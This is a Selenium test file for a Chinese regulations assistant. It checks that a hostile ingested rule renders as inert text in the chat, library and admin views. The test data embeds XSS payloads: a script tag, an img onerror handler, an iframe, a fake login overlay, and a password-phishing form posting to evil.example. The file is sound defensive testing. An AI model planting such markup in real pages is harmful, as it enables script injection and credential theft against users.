"""A hostile internal rule in the real browser: its title and text carry a <script>, an <img
onerror>, a <form> with a password box, an <iframe>, a position:fixed overlay and markdown
links. Asked about in 问答, found and opened in 法规库, listed and chosen in 管理 › 文档管理, and
its stored conversation reopened: no element of the payload may exist in the DOM, while the
text is there to read, as text. Screenshot: test-output/hostile_chat.png.
"""
from __future__ import annotations

import tempfile
import time
from pathlib import Path

import pytest
from test_web_browser import ADMIN, OUT, browser, click, login, shot, tab, visible, wait, wait_visible  # noqa: F401

from web_harness import running_app

pytest.importorskip("selenium.webdriver")
from selenium.webdriver.common.by import By  # noqa: E402

EVIL = "evil.example"
TITLE = f'某局涉密载体传输办法<img src=x onerror="window.__xss=1">[点此](http://{EVIL}/t)'
RULE = "\n".join([
    "某局涉密载体传输办法",
    "第一条　为规范涉密载体传输登记，制定本办法。<script>window.__xss=2</script>",
    f'第二条　涉密载体传输应当经保密员登记。<form action="http://{EVIL}/steal"><input type="password" name="pw">'
    "<button>验证身份</button></form>",
    f'第三条　<iframe src="http://{EVIL}/frame"></iframe>涉密载体严禁通过即时通讯工具传输。',
    '第四条　<div style="position:fixed;top:0;left:0;width:100%;height:100%;background:#c00;z-index:9999">'
    "系统维护，请重新登录</div>涉密载体传输登记簿由保密员保管。",
    f"第五条　登记办法详见[点此](http://{EVIL}/phish)，或访问 http://{EVIL}/x 。",
])

# everything the payload could have put into the page, as live elements
PROBE_JS = f"""
const evil = '{EVIL}';
const q = s => Array.from(document.querySelectorAll(s));
return {{
  forms: q('form').filter(f => (f.getAttribute('action') || '').includes(evil)).length,
  passwords: q('input[type=password][name=pw]').length,
  iframes: q('iframe').length,
  onerror: q('img[onerror], [onerror]').length,
  evil_links: q('a[href], [src], [action]').filter(e =>
      ((e.getAttribute('href') || '') + (e.getAttribute('src') || '') + (e.getAttribute('action') || '')).includes(evil)).length,
  fixed: q('*').filter(e => e.textContent.includes('系统维护') && getComputedStyle(e).position === 'fixed').length,
  scripts: q('script').filter(s => s.textContent.includes('__xss')).length,
  xss: window.__xss === undefined ? 0 : 1,
}};
"""


def assert_inert(d, where):
    found = d.execute_script(PROBE_JS)
    assert not any(found.values()), f"live payload elements in {where}: {found}"


@pytest.fixture(scope="module")
def hostile_doc():
    from assistant.library.ingestion_service import IngestOptions

    app = running_app()
    path = Path(tempfile.mkdtemp()) / "涉密载体传输办法.txt"
    path.write_text(RULE, encoding="utf-8")
    out = app.container.ingestion.ingest_file(path, IngestOptions(title=TITLE, doc_type="内部制度"))
    assert out.ok, out.error
    return app


def test_hostile_document_renders_as_text_everywhere(browser, hostile_doc):  # noqa: F811
    app, d = hostile_doc, browser
    login(d, app.url, *ADMIN)

    # 问答: the answer quotes the rule; its HTML and links are characters on the page
    box = wait_visible(d, "#chat-input textarea")
    box.send_keys("涉密载体传输应当经保密员登记吗")
    click(d, "#chat-send")
    wait(d, lambda d: "保密员登记" in d.find_element(By.ID, "chat-bot").text and
         visible(d, "#chat-cards [data-article-id]"), what="an answer quoting the hostile rule")
    wait(d, lambda d: visible(d, "#chat-history label"), what="the conversation stored")
    chat_text = d.find_element(By.ID, "chat-bot").text
    assert '<form action="http://evil.example/steal">' in chat_text  # shown, not rendered
    cards_text = d.find_element(By.ID, "chat-cards").text
    assert "内部制度" in cards_text and "<img src=x" in cards_text
    assert_inert(d, "问答")
    d.execute_script("document.querySelector('#chat-bot').scrollIntoView({block: 'start'});")
    time.sleep(0.5)
    d.save_screenshot(str(OUT / "hostile_chat.png"))

    # 法规库: search cards, the opened rule (header and text), the document list
    tab(d, "法规库")
    q = wait_visible(d, "#lib-search-query textarea, #lib-search-query input")
    q.send_keys("涉密载体 即时通讯工具 传输")
    click(d, "#lib-search-btn")
    card = wait(d, lambda d: next((c for c in visible(d, "#lib-search-results .xf-card")
                                   if "涉密载体传输办法" in c.text), None), what="the hostile rule found")
    card.click()
    wait(d, lambda d: "系统维护" in d.find_element(By.ID, "lib-reader").text, what="the rule opened")
    assert "<iframe" in d.find_element(By.ID, "lib-reader").text
    assert "onerror" in d.find_element(By.ID, "lib-header").text
    assert_inert(d, "法规库")
    shot(d, "hostile_library")

    # 管理 › 文档管理: listed, then chosen (the message names it)
    tab(d, "管理")
    header = wait(d, lambda d: next((e for e in d.find_elements(By.CSS_SELECTOR, "button, span")
                                     if e.text.strip() == "文档管理" and e.is_displayed()), None), what="文档管理")
    d.execute_script("arguments[0].scrollIntoView({block: 'center'});", header)
    header.click()
    wait(d, lambda d: visible(d, "#admin-docs"), what="document table")
    filter_box = wait_visible(d, "#admin-docs-query textarea, #admin-docs-query input")
    filter_box.send_keys("涉密载体传输办法")
    click(d, "#admin-docs-list")
    cell = wait(d, lambda d: next((c for c in d.find_elements(By.CSS_SELECTOR, "#admin-docs [role=gridcell]")
                                   if "涉密载体传输办法" in c.text and c.is_displayed()), None), what="row")
    assert_inert(d, "文档列表")
    cell.click()
    wait(d, lambda d: "已选：" in d.find_element(By.ID, "admin-chosen-label").text, what="chosen message")
    assert "<img src=x" in d.find_element(By.ID, "admin-chosen-label").text
    assert_inert(d, "文档管理")
    shot(d, "hostile_admin")

    # the stored conversation, reopened after a reload
    d.get(app.url)
    wait_visible(d, "#chat-input textarea")
    wait(d, lambda d: visible(d, "#chat-history label"), what="my conversations")
    visible(d, "#chat-history label")[0].click()
    wait(d, lambda d: "保密员登记" in d.find_element(By.ID, "chat-bot").text, what="the conversation reopened")
    assert "<script>" in d.find_element(By.ID, "chat-bot").text or "<form" in d.find_element(By.ID, "chat-bot").text
    assert_inert(d, "重新打开的对话")
